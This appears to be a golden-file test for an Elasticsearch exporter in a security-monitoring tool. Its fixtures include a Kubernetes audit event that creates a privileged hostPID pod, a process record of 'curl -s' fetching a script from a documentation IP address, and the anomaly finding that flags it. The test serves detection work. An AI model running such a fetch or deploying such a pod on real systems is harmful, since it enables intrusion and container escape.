/**
 * Whole documents beside the records they are made of; docs/ecs.md shows them.
 *
 *   WEIR_UPDATE_GOLDEN=1 node --test test/exporters/elasticsearch/golden.test.ts      writes them anew
 */
import assert from 'node:assert/strict'
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import { k8sAudit } from '../../../receivers/k8s_audit.ts'
import { createAuditDecoder, emptyDecoded } from '../../../src/audit/decode.ts'
import { internResource, internScope } from '../../../src/records/interning.ts'
import { recordToJson } from '../../../src/records/json.ts'
import type { Attributes, HrTime, LogRecord } from '../../../src/records/record.ts'
import { withServer } from './kit.ts'

const OBSERVED: HrTime = [1_793_588_401, 0]

const AUDIT_EVENT = {
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'RequestResponse',
  auditID: '0d9f6c1e-6f0e-4f9c-8f57-6d1b6a0c2f11',
  stage: 'ResponseComplete',
  requestURI: '/api/v1/namespaces/payments/pods?fieldManager=kubectl-create',
  verb: 'create',
  user: {
    username: 'system:serviceaccount:payments:deployer',
    uid: '8a0c7f0e-3d1b-4a53-9a45-6d0f0f3b7c55',
    groups: ['system:serviceaccounts', 'system:authenticated'],
  },
  sourceIPs: ['192.0.2.199'],
  userAgent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46',
  objectRef: { resource: 'pods', namespace: 'payments', name: 'debug', apiVersion: 'v1' },
  responseStatus: { metadata: {}, code: 201 },
  requestObject: {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'debug', namespace: 'payments', managedFields: [{ manager: 'kubectl-create' }] },
    spec: {
      containers: [{ name: 'debug', image: 'alpine:3.20', securityContext: { privileged: true } }],
      hostPID: true,
    },
  },
  requestReceivedTimestamp: '2026-11-02T03:00:00.452000Z',
  stageTimestamp: '2026-11-02T03:00:00.469250Z',
  annotations: {
    'authorization.k8s.io/decision': 'allow',
    'authorization.k8s.io/reason': 'RBAC: allowed by RoleBinding "deployer/payments" of Role "deployer"',
    'pod-security.kubernetes.io/enforce-policy': 'privileged:latest',
  },
}

function auditRecord(): LogRecord {
  const config = k8sAudit.config.parse({ include: ['x'], cluster_name: 'production', include_request_object: true })
  const decoded = emptyDecoded()
  createAuditDecoder(config).line(JSON.stringify(AUDIT_EVENT), OBSERVED, decoded)
  const one = decoded.records[0] as LogRecord
  // The name of the machine that runs the test belongs in no golden document.
  const { 'host.name': _, ...resource } = one.resource.attributes as Attributes
  return { ...one, resource: internResource({ ...resource, 'host.name': 'control-plane-1' }) }
}

const workload = internResource({
  'k8s.cluster.name': 'production',
  'k8s.namespace.name': 'payments',
  'k8s.pod.name': 'fraud-scorer-6f7c9d-x2x7k',
  'k8s.pod.uid': 'f2b7d0e0-62f5-4c4e-8a3e-2a4f0b8f5d10',
  'k8s.deployment.name': 'fraud-scorer',
  'k8s.node.name': 'worker-5',
  'k8s.container.name': 'scorer',
  'container.id': '4f3c2b1a09e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a29180f7e6d5c4b3a29180',
  'container.image.name': 'registry.example.com/fraud-scorer',
  'container.image.tags': ['2.4.1'],
  'host.name': 'worker-5',
})

const shared = {
  hrTime: [1_793_588_400, 469_250_123] as HrTime,
  hrTimeObserved: OBSERVED,
  resource: workload,
  instrumentationScope: internScope('weir.process'),
  droppedAttributesCount: 0,
}

const processRecord: LogRecord = {
  ...shared,
  eventName: 'process.exec',
  severityNumber: 9,
  severityText: 'INFO',
  body: 'fraud-scorer started curl -s http://198.51.100.7/x.sh',
  attributes: {
    'log.record.uid': 'worker-5/1793588400469250123/4711',
    'process.pid': 48_211,
    'process.vpid': 57,
    'process.parent_pid': 48_102,
    'process.entity_id': 'd29ya2VyLTU6NDgyMTE',
    'process.executable.path': '/usr/bin/curl',
    'process.executable.name': 'curl',
    'process.command_args': ['curl', '-s', 'http://198.51.100.7/x.sh'],
    'process.args_count': 3,
    'process.working_directory': '/app',
    'process.interactive': false,
    'process.user.id': 1000,
    'process.creation.time': '2026-11-02T03:00:00.469250123Z',
    'process.parent.executable.path': '/usr/local/bin/python3.12',
  },
}

const finding: LogRecord = {
  ...shared,
  eventName: 'security.anomaly',
  severityNumber: 17,
  severityText: 'ERROR',
  body: 'curl has never run in deployment payments/fraud-scorer (14 days of history)',
  attributes: {
    'log.record.uid': 'anomaly/worker-5/1793588400469250123/4711',
    'weir.score': 91,
    'weir.score.bits': 12.25,
    'weir.explanation': 'curl has never run in deployment payments/fraud-scorer (14 days of history)',
    'weir.evidence.record': 'worker-5/1793588400469250123/4711',
    'weir.evidence.seen': 0,
    'security_rule.name': 'process never seen in this workload',
    'security_rule.category': 'anomaly',
    'threat.tactic.id': 'TA0011',
    'threat.tactic.name': 'Command and Control',
    'threat.technique.id': 'T1105',
    'threat.technique.name': 'Ingress Tool Transfer',
    'process.executable.path': '/usr/bin/curl',
  },
}

const cases = { 'k8s-audit': auditRecord(), process: processRecord, finding }

for (const [name, one] of Object.entries(cases)) {
  const path = join(import.meta.dirname, `../../golden/elasticsearch/${name}.json`)
  test(`the document of ${name} is the one in ${name}.json`, () =>
    withServer({ data_stream: { namespace: 'production' } }, async ({ server, send }) => {
      await send([one])
      const [stored] = server.documents
      const { stream, id, source } = stored as NonNullable<typeof stored>
      const actual = {
        record: JSON.parse(recordToJson(one)),
        action: { create: { _index: stream, _id: id } },
        document: source,
      }
      if (process.env['WEIR_UPDATE_GOLDEN'] !== undefined) {
        writeFileSync(path, `${JSON.stringify(actual, undefined, 2)}\n`)
      }
      assert.deepEqual(actual, JSON.parse(readFileSync(path, 'utf8')))
    }))
}

/** Fields that Elastic's Kubernetes rules (elastic/detection-rules, index logs-kubernetes.audit_logs-*) ask for. */
test('the document of an audit event has what the detection rules of Elastic read', () => {
  const { document } = JSON.parse(
    readFileSync(join(import.meta.dirname, '../../golden/elasticsearch/k8s-audit.json'), 'utf8'),
  )
  const { audit } = document.kubernetes
  assert.equal(document.event.dataset, 'kubernetes.audit_logs')
  assert.equal(audit.annotations['authorization_k8s_io/decision'], 'allow')
  assert.equal(audit.objectRef.resource, 'pods')
  assert.equal(audit.verb, 'create')
  assert.equal(audit.user.username, 'system:serviceaccount:payments:deployer')
  assert.equal(audit.requestObject.spec.hostPID, true)
  assert.equal(audit.requestObject.spec.containers[0].securityContext.privileged, true)
  assert.equal(audit.responseStatus.code, 201)
  assert.deepEqual([audit.sourceIPs, document.source.ip], [['192.0.2.199'], '192.0.2.199'])
  assert.equal(audit.requestURI, AUDIT_EVENT.requestURI)
})
